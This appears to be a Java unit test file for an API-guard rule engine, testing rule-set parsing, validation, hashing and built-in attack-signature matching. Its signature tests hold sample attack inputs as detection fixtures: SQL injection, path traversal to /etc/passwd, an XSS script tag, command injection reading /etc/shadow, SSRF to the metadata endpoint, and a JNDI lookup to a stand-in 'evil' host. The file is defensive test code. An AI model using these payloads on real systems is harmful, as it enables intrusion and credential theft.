package io.apiguard.common.rules;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.List;
import java.util.Map;

import org.junit.jupiter.api.Test;

import io.apiguard.common.events.EnforcementRule;
import io.apiguard.common.events.RuleAction;
import io.apiguard.common.events.RuleMode;

class RuleSetDocumentTest {

    private static final Instant NOW = Instant.parse("2026-03-01T10:00:00Z");

    static EnforcementRule blockSubject(String id, String subject) {
        return new EnforcementRule(
                id,
                new EnforcementRule.Match(subject, null, null, null, null, null, null),
                RuleAction.BLOCK,
                null,
                "test",
                null,
                "operator",
                NOW,
                null,
                RuleMode.ENFORCE);
    }

    @Test
    void aWrittenSetReadsBackEqual() {
        // Given
        RuleSet set = RuleSet.of(
                7,
                NOW,
                List.of(blockSubject("r1", "mallory"), blockSubject("r2", "eve")),
                new RuleSet.Allowlist(List.of("svc-backup"), List.of("10.0.0.0/8"), List.of("/q/health")),
                Map.of("payments", RuleMode.MONITOR),
                Map.of("admin-path", "/admin"));

        // When
        RuleSetDocument.Parsed parsed = RuleSetDocument.parse(RuleSetDocument.write(set));

        // Then
        assertThat(parsed.errors()).isEmpty();
        assertThat(parsed.ruleSet()).isEqualTo(set);
    }

    @Test
    void theHashIgnoresRuleOrderAndVersion() {
        RuleSet one = RuleSet.of(1, NOW, List.of(blockSubject("a", "x"), blockSubject("b", "y")), null, null, null);
        RuleSet two = RuleSet.of(2, NOW, List.of(blockSubject("b", "y"), blockSubject("a", "x")), null, null, null);
        RuleSet other = RuleSet.of(2, NOW, List.of(blockSubject("b", "z"), blockSubject("a", "x")), null, null, null);

        assertThat(one.hash()).isEqualTo(two.hash()).startsWith("sha256:");
        assertThat(other.hash()).isNotEqualTo(one.hash());
    }

    @Test
    void aDocumentWithBadRulesIsRefusedWholeWithPerRuleErrors() {
        // Given: a good rule, a rate-limit without rate, a bad CIDR, an unknown signature, a duplicate id
        String json = """
                {"version": 3, "rules": [
                  {"id": "good", "match": {"subject": "mallory"}, "action": "block", "mode": "enforce"},
                  {"id": "no-rate", "match": {"subject": "eve"}, "action": "rate-limit", "mode": "enforce"},
                  {"id": "bad-cidr", "match": {"clientCidr": "10.0.0.0/40"}, "action": "block", "mode": "enforce"},
                  {"id": "bad-sig", "match": {"payloadSignature": "nope"}, "action": "block", "mode": "enforce"},
                  {"id": "good", "match": {"subject": "trent"}, "action": "block", "mode": "enforce"}
                ]}
                """;

        // When
        RuleSetDocument.Parsed parsed = RuleSetDocument.parse(json.getBytes(StandardCharsets.UTF_8));

        // Then
        assertThat(parsed.accepted()).isFalse();
        assertThat(parsed.errors()).extracting(RuleSetDocument.RuleError::index).containsExactly(1, 2, 3, 4);
        assertThat(parsed.errors())
                .extracting(RuleSetDocument.RuleError::ruleId)
                .containsExactly("no-rate", "bad-cidr", "bad-sig", "good");
        assertThat(parsed.errors().get(0).message()).contains("ratePerSecond");
        assertThat(parsed.errors().get(3).message()).contains("duplicate");
    }

    @Test
    void garbageIsRefusedWithADocumentError() {
        RuleSetDocument.Parsed parsed = RuleSetDocument.parse("not json".getBytes(StandardCharsets.UTF_8));

        assertThat(parsed.accepted()).isFalse();
        assertThat(parsed.errors())
                .singleElement()
                .satisfies(error -> assertThat(error.index()).isEqualTo(-1));
    }

    @Test
    void policyRulesTakeTheModeOfTheSidecarsNamespace() {
        EnforcementRule policyRule = new EnforcementRule(
                "p",
                blockSubject("p", "m").match(),
                RuleAction.BLOCK,
                null,
                null,
                "d1",
                RuleSet.POLICY,
                NOW,
                null,
                RuleMode.ENFORCE);
        EnforcementRule operatorRule = blockSubject("o", "m");
        RuleSet set =
                RuleSet.of(1, NOW, List.of(policyRule, operatorRule), null, Map.of("payments", RuleMode.MONITOR), null);

        assertThat(set.effectiveMode(policyRule, "payments")).isEqualTo(RuleMode.MONITOR);
        assertThat(set.effectiveMode(policyRule, "shop")).isEqualTo(RuleMode.ENFORCE);
        assertThat(set.effectiveMode(operatorRule, "payments")).isEqualTo(RuleMode.ENFORCE);
    }

    @Test
    void everyBuiltInSignatureHasTriggersThatItsSamplesContain() {
        assertThat(PayloadSignatures.BUILT_IN_TRIGGERS.keySet()).isEqualTo(PayloadSignatures.BUILT_IN.keySet());
        Map<String, String> samples = Map.of(
                "sql-injection", "/q?id=1 UNION SELECT password",
                "path-traversal", "/files/../../etc/passwd",
                "xss", "/p?name=<script>alert(1)</script>",
                "command-injection", "/ping?host=1.1.1.1;cat /etc/shadow",
                "ssrf-metadata", "/fetch?url=http://169.254.169.254/latest",
                "jndi-lookup", "/x?q=${jndi:ldap://evil}");
        samples.forEach((id, sample) -> {
            assertThat(PayloadSignatures.compile(id, Map.of()).matcher(sample).find())
                    .as(id)
                    .isTrue();
            assertThat(PayloadSignatures.triggers(id, Map.of()))
                    .as(id)
                    .anySatisfy(trigger -> assertThat(sample.toLowerCase()).contains(trigger));
        });
        assertThat(PayloadSignatures.triggers("xss", Map.of("xss", "<b>"))).isEmpty();
    }

    @Test
    void builtInSignaturesCompileAndMatchTheirFamilies() {
        PayloadSignatures.BUILT_IN.keySet().forEach(id -> PayloadSignatures.compile(id, Map.of()));

        assertThat(PayloadSignatures.compile("sql-injection", Map.of())
                        .matcher("/q?id=1' OR '1'='1")
                        .find())
                .isTrue();
        assertThat(PayloadSignatures.compile("path-traversal", Map.of())
                        .matcher("/files/../../etc/passwd")
                        .find())
                .isTrue();
        assertThat(PayloadSignatures.compile("sql-injection", Map.of())
                        .matcher("/accounts/42?sort=name")
                        .find())
                .isFalse();
    }
}
